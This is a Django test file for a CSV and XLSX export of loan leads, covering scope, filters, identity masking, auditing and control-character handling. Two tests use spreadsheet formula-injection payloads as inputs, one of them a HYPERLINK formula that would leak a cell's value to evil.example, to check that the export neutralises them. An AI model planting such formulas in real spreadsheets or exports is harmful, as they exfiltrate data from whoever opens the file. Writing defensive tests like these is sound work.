"""Exports: CSV and XLSX of the leads in scope, with the list's filters, masking and the audit record."""

import csv
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from leads.models import LeadStatus, LoanStatus
from leads.tests.api_base import LeadsAPITestCase
from leads.tests.factories import LeadFactory, LoanCommitmentFactory
from transfers.exports import HEADER, mask
from transfers.models import LeadExport


class ExportTests(LeadsAPITestCase):
    def export(self, user, query=""):
        self.login(user)
        response = self.client.get(reverse("transfers:export") + query)
        return response

    def assertStatus(self, response, expected):
        if response.status_code == expected and getattr(response, "streaming", False):
            return
        super().assertStatus(response, expected)

    def csv_rows(self, response):
        self.assertStatus(response, 200)
        self.assertTrue(response.streaming)
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))

    def test_csv_has_the_list_fields_and_outstanding_amount_in_scope(self):
        LeadFactory(branch=self.branch_a2)
        LeadFactory(branch=self.branch_b1)
        LoanCommitmentFactory(lead=self.lead, amount=Decimal("1000.00"))
        LoanCommitmentFactory(lead=self.lead, amount=Decimal("250.50"), status=LoanStatus.OVERDUE)
        LoanCommitmentFactory(lead=self.lead, amount=Decimal("999.00"), status=LoanStatus.CLEARED)
        response = self.export(self.user_a1)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment;", response["Content-Disposition"])
        rows = self.csv_rows(response)
        self.assertEqual(list(rows[0]), HEADER)
        self.assertEqual([row["id"] for row in rows], [str(self.lead.pk)])
        self.assertEqual(Decimal(rows[0]["outstanding_amount"]), Decimal("1250.50"))
        self.assertEqual(rows[0]["branch_name"], self.branch_a1.name)

    def test_columns_are_the_list_fields(self):
        from leads.serializers import LeadListOutputSerializer

        self.assertEqual(HEADER, LeadListOutputSerializer.Meta.fields)

    def test_list_filters_apply(self):
        interested = LeadFactory(branch=self.branch_a1, lead_status=LeadStatus.INTERESTED)
        rows = self.csv_rows(self.export(self.admin_a, "?lead_status=interested"))
        self.assertEqual([row["id"] for row in rows], [str(interested.pk)])
        self.assertStatus(self.export(self.admin_a, "?lead_status=asleep"), 400)
        self.assertStatus(self.export(self.admin_a, "?format=pdf"), 400)

    def test_the_lists_money_orderings_apply(self):
        poorer = LeadFactory(branch=self.branch_a1)
        LoanCommitmentFactory(lead=self.lead, amount=Decimal("500.00"))
        LoanCommitmentFactory(lead=poorer, amount=Decimal("100.00"))
        for ordering, expected in (("outstanding_amount", [poorer, self.lead]), ("-overdue_amount", None)):
            with self.subTest(ordering=ordering):
                rows = self.csv_rows(self.export(self.user_a1, f"?ordering={ordering}"))
                if expected:
                    self.assertEqual([row["id"] for row in rows], [str(lead.pk) for lead in expected])

    def test_branch_users_get_identity_masked_org_admins_and_staff_whole(self):
        for user, masked in ((self.user_a1, True), (self.admin_a, False), (self.staff, False)):
            with self.subTest(user=user.username):
                [row] = [r for r in self.csv_rows(self.export(user, "?format=csv")) if r["id"] == str(self.lead.pk)]
                expected_passport = mask(self.lead.passport_number) if masked else self.lead.passport_number
                expected_cnic = mask(self.lead.cnic) if masked else self.lead.cnic
                self.assertEqual((row["passport_number"], row["cnic"]), (expected_passport, expected_cnic))
        self.assertEqual(mask("AB1234567"), "*****4567")

    def test_xlsx_export(self):
        response = self.export(self.user_a1, "?format=xlsx")
        self.assertStatus(response, 200)
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
        rows = list(workbook.worksheets[0].iter_rows(values_only=True))
        self.assertEqual(list(rows[0]), HEADER)
        self.assertEqual(rows[1][0], self.lead.pk)
        self.assertEqual(rows[1][HEADER.index("passport_number")], mask(self.lead.passport_number))

    def test_xlsx_export_of_text_with_control_characters(self):
        # XML 1.0 cannot carry them: openpyxl refused the whole file (a broken download, a 500 logged).
        self.lead.customer_name = "Ali\x01 Raza\x1f"
        self.lead.area = "Gulberg\x0b"
        self.lead.save()
        response = self.export(self.user_a1, "?format=xlsx")
        self.assertStatus(response, 200)
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
        row = list(workbook.worksheets[0].iter_rows(values_only=True))[1]
        self.assertEqual(row[HEADER.index("customer_name")], "Ali\ufffd Raza\ufffd")
        self.assertEqual(row[HEADER.index("area")], "Gulberg\ufffd")
        self.assertEqual(LeadExport.objects.get().row_count, 1)

    def test_each_export_is_audited_with_filters_and_row_count(self):
        LeadFactory(branch=self.branch_a1, lead_status=LeadStatus.INTERESTED)
        self.csv_rows(self.export(self.user_a1, "?lead_status=new&format=csv"))
        record = LeadExport.objects.get()
        self.assertEqual((record.user, record.file_format, record.row_count), (self.user_a1, "csv", 1))
        self.assertEqual(record.filters, {"lead_status": ["new"]})
        self.assertIsNotNone(record.finished_at)

    def test_spreadsheet_formulas_in_names_are_neutralised(self):
        LeadFactory(branch=self.branch_a1, customer_name="=HYPERLINK(\"http://x\")")
        names = [row["customer_name"] for row in self.csv_rows(self.export(self.user_a1))]
        self.assertIn("'=HYPERLINK(\"http://x\")", names)

    def test_xlsx_writes_formula_like_text_as_text_cells(self):
        starts = ["=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTabbed", "\r=1+1"]
        for text in starts:
            LeadFactory(branch=self.branch_a1, customer_name=text, area=text)
        response = self.export(self.user_a1, "?format=xlsx")
        self.assertStatus(response, 200)
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        rows = list(sheet.iter_rows(min_row=2))
        columns = [HEADER.index("customer_name"), HEADER.index("area")]
        self.assertEqual([cell.data_type for row in rows for cell in row if cell.data_type == "f"], [])
        # The text itself, as a spreadsheet shows it (XML reads a carriage return as a line feed).
        shown = {text.replace("\r", "\n") for text in starts}
        written = {row[column].value for row in rows for column in columns}
        self.assertTrue(shown <= written, written)
        for row in rows:
            for column in columns:
                if row[column].value in shown:
                    self.assertEqual(row[column].data_type, "s")

    def test_needs_a_member(self):
        self.assertStatus(self.export(None), 401)
        self.assertStatus(self.export(self.nobody), 403)
